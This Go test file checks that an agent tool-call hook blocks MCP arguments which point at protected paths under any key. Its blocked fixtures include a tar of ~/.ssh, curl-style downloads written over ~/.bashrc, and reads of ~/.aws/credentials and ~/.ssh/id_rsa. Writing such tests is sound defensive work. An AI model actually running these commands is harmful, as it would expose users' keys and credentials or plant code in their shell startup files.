package hook

import (
	"strings"
	"testing"
)

// TestRoutesValueWordsAnyKey: a protected path shaped as one (/…, ~/…,
// ../…) inside any string value of an MCP or unknown tool is read and
// written whatever the value's key, and a value that parses as JSON is
// scanned as JSON.
func TestRoutesValueWordsAnyKey(t *testing.T) {
	home, proj := routeWorld(t)
	r := strings.NewReplacer("$H", home)
	var cases []routeCase
	add := func(tool, in string, block bool) {
		in = r.Replace(in)
		cases = append(cases, everyAgent(proj, tool, tool, in, block)...)
	}
	for _, in := range []string{
		`{"program":"tar","options":"czf /tmp/k.tgz $H/.ssh"}`,
		`{"tool":"curl","options":"-o $H/.bashrc https://x.example/a"}`,
		`{"url":"https://x.example/a","options":"-o $H/.bashrc"}`,
		`{"url":"https://x.example/a","save_as":"x $H/.bashrc"}`,
	} {
		add("runner", in, true)
	}
	for _, in := range []string{
		`{"options":"--output $H/.bashrc"}`,
		`{"config":"path: $H/.bashrc"}`,
		`{"params":"file: $H/.aws/credentials"}`,
		`{"params":"file:$H/.aws/credentials"}`,
		`{"foo":"mytool $H/.bashrc"}`,
		`{"value":"x $H/.ssh/id_rsa"}`,
		`{"options":"x ~/.ssh/id_rsa"}`,
		`{"options":"x ../.ssh/id_rsa"}`,
		`{"tool":"read_file","arguments":"{\"path\":\"$H/.ssh/id_rsa\"}"}`,
		`{"tool":"read_file","arguments":"{\"opts\":\"x ~/.ssh/id_rsa\"}"}`,
	} {
		add("proxy", in, true)
	}
	// Everyday MCP calls.
	add("create_issue", `{"owner":"o","repo":"r","title":"crash","body":"see src/main.go line 3; run go test ./... to reproduce"}`, false)
	add("read_file", `{"path":"`+proj+`/src/main.go"}`, false)
	add("query", `{"sql":"SELECT name FROM users WHERE id = 3"}`, false)
	add("call_tool", `{"tool":"search","arguments":"{\"q\":\"needle\",\"path\":\"src\"}"}`, false)
	runRouteCases(t, cases)
}
